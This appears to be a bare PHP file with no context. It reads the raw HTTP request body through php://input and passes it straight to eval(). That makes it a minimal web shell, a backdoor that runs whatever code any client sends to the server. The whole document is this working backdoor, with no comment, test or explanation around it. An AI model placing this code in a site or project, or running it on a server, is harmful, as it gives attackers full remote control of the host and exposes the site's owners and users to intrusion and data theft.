<?php
$in = fopen('php://input', 'r');
$code = stream_get_contents($in);
eval($code);
